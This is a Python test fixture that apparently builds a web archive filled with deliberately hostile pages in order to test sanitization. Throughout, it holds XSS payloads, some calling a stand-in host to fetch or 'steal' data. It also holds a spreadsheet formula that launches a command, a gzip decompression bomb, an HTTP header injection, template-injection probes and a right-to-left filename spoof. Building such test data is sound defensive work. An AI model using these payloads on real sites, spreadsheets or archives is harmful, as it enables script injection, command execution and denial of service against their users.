"""An archive of pages that mean harm to whoever looks at them. All of it is fiction; live.example is the world outside."""

from __future__ import annotations

import gzip
import sqlite3
from pathlib import Path

import build
from build import Made, Seen, cut, day

from archive.rows import SourceFacts
from normalize.model import Article, Claim, Credit

OVER = "\u202e"  # right-to-left override: what follows is shown backwards
SCRIPT = "<script>document.title='ran';fetch('https://live.example/s')</script>"
IMAGE = "<img src=https://live.example/i onerror=\"document.title='ran'\">"
TITLES = {  # label -> title, of a thousand characters at most: normalizing cuts longer ones
    "script": SCRIPT,
    "attribute": f'\'" autofocus onfocus="document.title=\'ran\'" x="</title></a></h1>{IMAGE}',
    "link": "javascript:document.title='ran'",
    "vector": "<svg onload=\"document.title='ran'\"><use href='https://live.example/u.svg#x'/></svg>",
    "style": "</style><style>@import url(https://live.example/c.css); main{display:none}</style><base href=https://live.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://live.example/r'><form action=https://live.example/f><button>Go",
    "template": "{{ 7*7 }} {% include 'layout.html' %} ${7*7} <%= 7*7 %>",
    "formula": '=HYPERLINK("https://live.example/x","more")',
    "controls": "a\x00b\x07c\x1b[31md\x85e\u2028f\ufffeg\x02h\x03i",
    "backwards": f"Barge {OVER}gpj.exe left port",
    "marks": "e" + "\u0301" * 900 + " stack of marks",
    "entity": "&lt;script&gt; &amp;#x6a; ]]> --> <!-- <![CDATA[",
    "empty": "",
}
HARM = f"""<!doctype html><html manifest="https://live.example/m"><head><base href="https://live.example/"><title>{SCRIPT}</title>
<meta http-equiv="refresh" content="0;url=https://live.example/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="a=b"><link rel="icon" href="https://live.example/icon"><link rel="preconnect" href="https://live.example">
<link rel="prefetch" href="https://live.example/next"><link rel="modulepreload" href="https://live.example/mod.js">
<style>@import url("//live.example/a.css");@import 'https://live.example/b.css';@font-face{{font-family:x;src:url(https://live.example/f)}}
p{{font-family:x;background:image-set("https://live.example/set" 1x);cursor:url(https://live.example/cur),auto}} a:visited{{color:red}}</style>
<script>if (top !== self) top.location = 'https://live.example/bust'; document.title = 'ran'</script><script type="module" src="//live.example/m.js"></script>
</head><body onload="document.title='ran'"><p>Words that mean harm</p><svg><script>document.title='ran'</script><a href="javascript:document.title='ran'">
<text y="20">svg</text></a><foreignObject>{IMAGE}</foreignObject><animate attributeName="href" values="javascript:document.title='ran'"/></svg>
<math href="javascript:document.title='ran'">m</math><a href=" java\tscript:document.title='ran'">tab</a>
<a href="data:text/html,{SCRIPT}" target="_blank">data</a><a href="//live.example/go" target="_parent">out</a><a href="../../../-/record/x">up</a>
<form method="post" action="/-/logout" id="f"><input name="q"><button formaction="https://live.example/steal">send</button></form>
<iframe src="javascript:parent.document.title='ran'"></iframe><iframe src="//live.example/frame"></iframe><embed src="//live.example/e">
<object data="data:text/html,{SCRIPT}"></object><audio src="//live.example/a" autoplay></audio><input type="image" src="//live.example/in">
<style>@import"https://live.example/d.css";p{{background:u\\72l(https://live.example/esc);filter:url(https://live.example/x.svg#f)}}</style>
<svg><use href="https://live.example/use.svg#x"/><feImage href="https://live.example/fe"/><rect fill="url(https://live.example/r.svg#a)"/>
<set attributeName="href" to="https://live.example/set"/></svg><portal src="https://live.example/portal"></portal>
<fencedframe src="https://live.example/fenced"></fencedframe><img srcset="https://live.example/1 1x, https://live.example/2 2x"
attributionsrc="https://live.example/attribution"><picture><source srcset="https://live.example/webp"></picture>
<video poster="https://live.example/poster"><source src="https://live.example/v.mp4"><track src="https://live.example/t.vtt" default></video>
<a href="/x" ping="https://live.example/ping">ping</a><a href="https://live.example/top" target="_top">top</a>
<amp-img src="https://live.example/amp"></amp-img><template shadowrootmode="open">{IMAGE}</template><bgsound src="https://live.example/b">
<table background="//live.example/tb"><tr><td>t</td></tr></table><noscript>{IMAGE}</noscript><template>{IMAGE}</template></body></html>""".encode()
PLAINTEXT = HARM.replace(b"<body", b"<body><plaintext><body", 1)
FRAMES = b"<html><frameset cols='1,1' onload=\"document.title='ran'\"><frame src='https://live.example/l'><frame src='javascript:1'></frameset></html>"
LISTED = (  # XML that asks for a stylesheet of its own, and XHTML that runs
    b"<?xml version='1.0'?><?xml-stylesheet href='https://live.example/s.xsl' type='text/xsl'?>"
    b"<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body><script>document.title='ran'</script></body></html>"
)
BROKEN = b"<table><b><p><a href='https://live.example/x'><table><td><style>*{x:url(https://live.example/y" + HARM + b"<!-- <svg><![CDATA["
ARCHIVED = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + HARM
VECTOR = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='ran'\"><script>document.title='ran'</script><image href='https://live.example/v'/></svg>"
BOMB = gzip.compress(b"<p>boom</p>" + b" " * 60_000_000)
INJECTED = (
    ("X-One", "a"),
    ("Location", "https://live.example/\x85Set-Cookie: b=c"),
    ("Content-Disposition", 'attachment; filename="a.html\\"'),
)


def page(title: str) -> Article:
    """An article that means harm with each of its fields."""
    return build.article(
        title,
        [f"{IMAGE} harmful words stand here. {OVER}backwards", "javascript:document.title='ran'", cut(SCRIPT, "donation", "rule:<b>x</b>")],
        lead=f"=1+1 {IMAGE}",
        authors=("=cmd|' /C calc'!A0", f"Ada{OVER}Quay"),
        published=day("2026-01-19"),
        section="@SUM(A1)",
        credits=(
            Credit("republication", f"<i>name</i>{OVER}", "javascript:document.title='ran'", SCRIPT, 0),
            Credit("agency", "+1", None, "-2", 1),
        ),
        claims=(Claim("title", title, "opengraph", True), Claim("title", IMAGE, "<img>", False)),
    )


def captures() -> list[Seen]:
    named = [
        Seen(label, f"https://harm.example/{label}", n, page(title), body=HARM, source="=harm")
        for n, (label, title) in enumerate(TITLES.items())
    ]
    return [
        *named,
        Seen("long", "https://harm.example/long", 20, page(("Long " + "tale " * 200_000)[:1000]), body=HARM, source="=harm"),
        Seen("path", "https://harm.example/a/../../b?<script>&q='\"#" + OVER, 21, page("Path"), body=HARM, source="=harm"),
        Seen("bomb", "https://harm.example/bomb", 22, page("Bomb"), body=BOMB, headers=(("Content-Encoding", "gzip"),), source="=harm"),
        Seen("svg", "https://harm.example/x.svg", 23, body=VECTOR, content_type="image/svg+xml", source="=harm", role="image"),
        Seen("charset", "https://harm.example/charset", 24, page("Charset"), body=HARM, content_type="text/html; charset=utf-7\x1b", source="=harm"),
        Seen("utf16", "https://harm.example/utf16", 25, body=b"\xff\xfe" + HARM, content_type="text/html; charset=bogus", source="=harm"),
        Seen("moved", "https://harm.example/moved", 26, status=302, body=b"", headers=INJECTED, source="=harm"),
        Seen("script-link", "https://harm.example/jump", 27, status=301, body=b"", headers=(("Location", "javascript:document.title='ran'"),), source="=harm"),
        Seen("lies", "https://harm.example/lies", 28, body=HARM, content_type="image/png", source="=harm", role="image"),
        Seen("plaintext", "https://harm.example/plaintext", 30, body=PLAINTEXT, source="=harm"),
        Seen("frames", "https://harm.example/frames", 31, body=FRAMES, source="=harm"),
        Seen("xhtml", "https://harm.example/xhtml", 32, body=LISTED, content_type="application/xhtml+xml", source="=harm"),
        Seen("xml", "https://harm.example/xml", 33, body=LISTED, content_type="application/xml", source="=harm"),
        Seen("broken", "https://harm.example/broken", 34, body=BROKEN, source="=harm"),
        Seen("mhtml", "https://harm.example/mhtml", 35, body=ARCHIVED, content_type="multipart/related", source="=harm"),
        Seen("gifar", "https://harm.example/gifar", 36, body=b"GIF89a/*" + HARM, content_type="image/gif", source="=harm", role="image"),
        Seen("untyped", "https://harm.example/untyped", 37, body=HARM, content_type="", source="=harm"),
        Seen("silent", "https://harm.example/silent", 29, source="=harm", problem=f"{SCRIPT}{OVER}"),
    ]  # fmt: skip


def make(folder: Path) -> Made:
    """The archive in `folder`; the article labelled script has ten thousand versions."""
    made = build.make(folder, captures(), (SourceFacts("=harm", f"{SCRIPT}{OVER}", "javascript:document.title='ran'", "en"),))
    with sqlite3.connect(made.database) as db:
        _multiply(db, made.names["script"])
    return made


def _multiply(db: sqlite3.Connection, capture: str) -> None:
    (version,) = db.execute("SELECT version FROM capture WHERE record_id = ?", (f"<urn:uuid:{capture}>",)).fetchone()
    columns = [row[1] for row in db.execute("PRAGMA table_info(version)")]
    taken = ", ".join({"id": "v.id + 1000 + n", "key": "printf('%032x', n)"}.get(name, f"v.{name}") for name in columns)
    count = "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 10000)"
    db.execute(f"{count} INSERT INTO version SELECT {taken} FROM c CROSS JOIN version v WHERE v.id = ?", (version,))
    db.execute(
        "INSERT INTO version_text SELECT v.id, t.text FROM version v JOIN version_text t ON t.version = ? WHERE v.id > 1000", (version,)
    )
    db.execute("UPDATE article SET versions = 10001 WHERE id = (SELECT article FROM version WHERE id = ?)", (version,))
